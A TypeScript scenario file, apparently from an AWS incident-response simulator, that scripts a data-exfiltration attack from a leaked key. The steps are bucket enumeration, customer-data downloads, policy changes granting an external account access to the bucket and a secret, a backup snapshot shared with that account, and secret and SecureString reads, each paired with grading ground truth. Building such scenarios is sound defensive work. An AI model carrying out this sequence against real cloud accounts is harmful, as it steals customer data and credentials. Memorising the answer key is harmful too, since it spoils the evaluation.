import type { ScenarioDef } from '../types.js';
import { W } from '../world.js';
import { attackerStep as step, MIN, HOUR } from './steps.js';

const ATTACKER_ACCOUNT = W.external;

const secretArnOf = (v: Record<string, unknown>, name: string): string =>
  ((v.secretList as { Name: string; ARN: string }[] | undefined) ?? []).find((s) => s.Name === name)?.ARN ??
  name;

/**
 * Exfiltration: bucket enumeration, reads of the customer-data bucket (S3 data events in the
 * trail), that bucket's policy opened to the attacker's account, the nightly backup snapshot
 * shared with it, and every secret and SecureString parameter read (one secret's resource policy
 * opened too).
 */
export const exfiltration: ScenarioDef = {
  name: 'exfiltration',
  summary:
    'leaked key → bucket enumeration, customer data reads (data events), bucket policy and EBS snapshot shared with the attacker account, secrets and SecureString parameters read',
  attackStartsBeforeEnd: 8 * HOUR,
  leakedKey: true,
  attackers: [
    {
      name: 'attacker',
      kind: 'attacker',
      ip: '103.251.167.10',
      userAgent: 'aws-cli/2.17.0 Python/3.12.3 Linux/6.8.0-31-generic exe/x86_64.ubuntu.24 prompt/off',
    },
  ],
  steps: [
    step(0, 'sts', 'GetCallerIdentity', {}),
    step(MIN, 's3', 'ListBuckets', {}),
    ...[W.artifacts, W.customerData, W.trailBucket].flatMap((bucket, i) => [
      step(2 * MIN + i * 20_000, 's3', 'GetBucketLocation', { Bucket: bucket }),
      step(2 * MIN + i * 20_000 + 5_000, 's3', 'ListObjectsV2', { Bucket: bucket }),
    ]),
    ...W.customerObjects.map((key, i) =>
      step(
        5 * MIN + i * 15_000,
        's3',
        'GetObject',
        { Bucket: W.customerData, Key: key },
        {
          truth: {
            dataTouched: [
              { kind: 's3-object', resource: `arn:aws:s3:::${W.customerData}/${key}`, detail: 'downloaded' },
            ],
          },
        },
      ),
    ),
    step(
      8 * MIN,
      's3',
      'PutBucketPolicy',
      {
        Bucket: W.customerData,
        Policy: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Sid: 'Replication',
              Effect: 'Allow',
              Principal: { AWS: `arn:aws:iam::${ATTACKER_ACCOUNT}:root` },
              Action: ['s3:GetObject', 's3:ListBucket'],
              Resource: [`arn:aws:s3:::${W.customerData}`, `arn:aws:s3:::${W.customerData}/*`],
            },
          ],
        }),
      },
      {
        truth: {
          modified: [
            { type: 'AWS::S3::Bucket', id: W.customerData, detail: `policy grants ${ATTACKER_ACCOUNT} read` },
          ],
          persistence: [
            {
              kind: 'bucket-policy',
              detail: `external account ${ATTACKER_ACCOUNT} can read the bucket`,
              resource: `arn:aws:s3:::${W.customerData}`,
            },
          ],
          clean: [{ check: 'bucketPolicyExcludes', bucket: W.customerData, principal: ATTACKER_ACCOUNT }],
        },
      },
    ),
    step(12 * MIN, 'ec2', 'DescribeSnapshots', { OwnerIds: ['self'] }),
    step(
      13 * MIN,
      'ec2',
      'ModifySnapshotAttribute',
      (v) => ({
        SnapshotId: v.backupSnapshot,
        Attribute: 'createVolumePermission',
        OperationType: 'add',
        UserIds: [ATTACKER_ACCOUNT],
      }),
      {
        truth: (_out, v) => ({
          modified: [
            {
              type: 'AWS::EC2::Snapshot',
              id: String(v.backupSnapshot),
              region: W.region,
              detail: `shared with ${ATTACKER_ACCOUNT}`,
            },
          ],
          dataTouched: [
            {
              kind: 'ebs-snapshot',
              resource: String(v.backupSnapshot),
              detail: `shared with ${ATTACKER_ACCOUNT}`,
            },
          ],
          clean: [
            {
              check: 'snapshotNotShared',
              region: W.region,
              snapshotId: String(v.backupSnapshot),
              account: ATTACKER_ACCOUNT,
            },
          ],
        }),
      },
    ),
    step(
      20 * MIN,
      'secretsmanager',
      'ListSecrets',
      {},
      { save: (out, v) => (v.secretList = out.SecretList) },
    ),
    ...W.secrets.map((name, i) =>
      step(
        21 * MIN + i * 10_000,
        'secretsmanager',
        'GetSecretValue',
        (v) => ({ SecretId: secretArnOf(v, name) }),
        {
          truth: (out) => ({
            dataTouched: [{ kind: 'secret', resource: String(out.ARN), detail: 'value read' }],
            clean: [{ check: 'secretRotated', secretId: name, region: W.region }],
          }),
        },
      ),
    ),
    step(
      23 * MIN,
      'secretsmanager',
      'PutResourcePolicy',
      (v) => ({
        SecretId: secretArnOf(v, W.secrets[2]!),
        ResourcePolicy: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Principal: { AWS: `arn:aws:iam::${ATTACKER_ACCOUNT}:root` },
              Action: 'secretsmanager:GetSecretValue',
              Resource: '*',
            },
          ],
        }),
      }),
      {
        truth: (out) => ({
          modified: [
            {
              type: 'AWS::SecretsManager::Secret',
              id: String(out.ARN),
              region: W.region,
              detail: `resource policy grants ${ATTACKER_ACCOUNT}`,
            },
          ],
          persistence: [
            {
              kind: 'secret-policy',
              detail: `external account ${ATTACKER_ACCOUNT} can read the secret`,
              resource: String(out.ARN),
            },
          ],
        }),
      },
    ),
    step(25 * MIN, 'ssm', 'DescribeParameters', { MaxResults: 10 }),
    step(
      25 * MIN + 20_000,
      'ssm',
      'GetParameters',
      { Names: [W.parameters[1], W.parameters[2]], WithDecryption: true },
      {
        truth: {
          dataTouched: [W.parameters[1]!, W.parameters[2]!].map((name) => ({
            kind: 'ssm-parameter',
            resource: `arn:aws:ssm:${W.region}:${W.account}:parameter${name}`,
            detail: 'SecureString decrypted',
          })),
        },
      },
    ),
  ],
};
